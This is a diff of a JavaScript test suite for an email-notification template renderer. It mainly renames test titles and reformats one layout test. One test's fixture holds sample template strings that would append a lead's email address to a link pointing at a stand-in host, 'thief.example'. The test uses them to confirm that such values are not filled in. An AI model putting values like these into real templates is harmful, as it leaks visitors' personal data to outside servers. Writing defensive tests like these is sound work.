@@ -103,7 +103,7 @@ t.test('a template of a previous version sends no data to another server', async
   t.notMatch(mailFromHtml.text, /siti@|6789/);
 });
 
-t.test('a template of a previous version fills no variable after a link, whatever is between', async t => {
+t.test('a template of a previous version does not fill variables after a link, whatever is between them', async t => {
   const old = [
     'https://thief.example/?e=<strong>{lead_email}</strong>',
     '<strong>https://thief.example/</strong><em title="a b">{lead_email}</em>',
@@ -126,7 +126,7 @@ t.test('a template of a previous version fills no variable after a link, whateve
   );
 });
 
-t.test('links to write to or call a visitor contain only the address or number', async t => {
+t.test('mailto: and tel: links to a visitor contain only the address or the number', async t => {
   const leadNotificationHtml =
     '<a href="mailto:{lead_email}">Write to {lead_email}</a> <a href="tel:{lead_phone}">Call</a>';
   t.match(
@@ -146,7 +146,7 @@ t.test('pictures of the site get absolute addresses', async t => {
     t.match(src(address), `<img src="${SITE}/uploads/abc.png" alt="Logo" />`);
 });
 
-t.test('a missing body is derived from the other one or from the default', async t => {
+t.test('a missing HTML or text body is made from the other one or from the default', async t => {
   const mailFromText = written({ leadNotificationHtml: ' ', leadNotificationMessage: 'One {lead_name}\n\nTwo\nlines' });
   t.match(mailFromText.html, /<p>One Siti &lt;b&gt;[^<]*<\/p>\n<p>Two<br>lines<\/p>/);
   const mailFromHtml = written({ leadNotificationMessage: '', leadNotificationHtml: '<p>One</p><p>{lead_email}</p>' });
@@ -170,21 +170,24 @@ t.test('a missing body is derived from the other one or from the default', async
   );
 });
 
-t.test('the layout of a mail', async t => {
-  const { html, text } = written({});
-  t.notMatch(html, /<table|https?:\/\/(?!marketplace\.example)/, 'no tables, and nothing from other servers');
-  t.match(html, /prefers-color-scheme:dark/);
-  const bare = html.replace(/<style>[\s\S]*<\/style>/, '');
-  t.match(bare, /<div style="display:none[^"]*">/, 'the preview text stays hidden without style sheets');
-  t.match(text, /--\nFranchise Marketplace\nhttps:\/\/marketplace\.example\n$/);
-  const bright = layOut(
-    { subject: 's', preview: '', parts: [{ kind: 'action', label: 'Go', url: 'https://x.example' }] },
-    { ...DEFAULT_PUBLIC_CONTENT, primaryColor: '#ffd400' },
-    'https://x.example',
-  );
-  t.match(
-    bright.html,
-    /<a class="action" style="[^"]*background:#ffd400;color:#111827/,
-    'dark text on a bright brand colour',
-  );
-});
+t.test(
+  'the layout of a mail needs no tables, style sheets or files of other servers, and has readable colours',
+  async t => {
+    const { html, text } = written({});
+    t.notMatch(html, /<table|https?:\/\/(?!marketplace\.example)/, 'no tables, and nothing from other servers');
+    t.match(html, /prefers-color-scheme:dark/);
+    const bare = html.replace(/<style>[\s\S]*<\/style>/, '');
+    t.match(bare, /<div style="display:none[^"]*">/, 'the preview text stays hidden without style sheets');
+    t.match(text, /--\nFranchise Marketplace\nhttps:\/\/marketplace\.example\n$/);
+    const bright = layOut(
+      { subject: 's', preview: '', parts: [{ kind: 'action', label: 'Go', url: 'https://x.example' }] },
+      { ...DEFAULT_PUBLIC_CONTENT, primaryColor: '#ffd400' },
+      'https://x.example',
+    );
+    t.match(
+      bright.html,
+      /<a class="action" style="[^"]*background:#ffd400;color:#111827/,
+      'dark text on a bright brand colour',
+    );
+  },
+);
